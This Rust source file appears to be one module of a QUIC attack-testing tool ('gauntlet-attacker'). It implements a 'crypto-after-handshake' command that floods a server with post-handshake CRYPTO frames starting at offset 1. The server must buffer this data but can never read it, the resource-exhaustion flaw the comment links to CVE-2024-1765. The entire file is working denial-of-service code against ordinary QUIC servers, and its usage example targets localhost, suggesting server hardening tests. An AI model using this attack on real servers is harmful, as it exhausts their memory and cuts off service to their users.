//! CRYPTO frames after the handshake that leave a hole (RFC 9000, section 7.5; CVE-2024-1765 in one stack).

use std::io::Write;

use clap::Args;

use super::feed::{self, Load};
use crate::caps::Held;
use crate::context::{Common, Context, Protocol, SetupError};
use crate::outcome::Outcome;
use crate::quic::QuicSession;
use crate::quic_wire::frame;
use crate::quic_wire::transport_parameters::Stated;

/// Octets of a frame; the first octet of all is never sent.
const FRAME_OCTETS: usize = 1000;

/// Handshake data after the handshake that cannot be read for want of its first octet
///
/// A start is a CRYPTO frame of 1,000 octets in a 1-RTT packet, each where the last ended. As the first octet is missing
/// the server can only keep them. One that bounds this closes the connection (CRYPTO_BUFFER_EXCEEDED, 0xd).
#[derive(Args, Clone, Debug)]
#[command(after_long_help = "Example:
  gauntlet-attacker crypto-after-handshake --target 127.0.0.1:4433 --rate 1000")]
pub struct CryptoAfterHandshake {
    #[command(flatten)]
    common: Common,
    /// Connections that starts are made on in turn
    #[arg(long, default_value = "1", value_name = "COUNT")]
    connections: Held,
}

impl CryptoAfterHandshake {
    /// Runs it.
    ///
    /// # Errors
    /// If it cannot begin, or a line cannot be written.
    pub async fn run(&self, out: &mut dyn Write) -> Result<(), SetupError> {
        let context = Context::new(&self.common, &[Protocol::H3])?;
        feed::run::<Late>(&context, self.connections.count(), (), out).await
    }
}

struct Late {
    session: QuicSession,
    offset: u64,
}

impl Load for Late {
    type Options = ();

    async fn open(context: &Context, (): &()) -> Result<Self, Outcome> {
        let session = feed::open_quic(context, &Stated::default()).await?;
        Ok(Self { session, offset: 1 })
    }

    fn start(&mut self, _: &Context, (): &()) -> Result<(), Outcome> {
        let mut frames = Vec::with_capacity(FRAME_OCTETS + 8);
        frame::crypto(&mut frames, self.offset, &[0; FRAME_OCTETS]);
        self.offset += FRAME_OCTETS as u64;
        self.session.client.send_frames(frames, false);
        Ok(())
    }

    async fn turn(&mut self) -> Result<(), Outcome> {
        feed::turn_quic(&mut self.session).await
    }
}
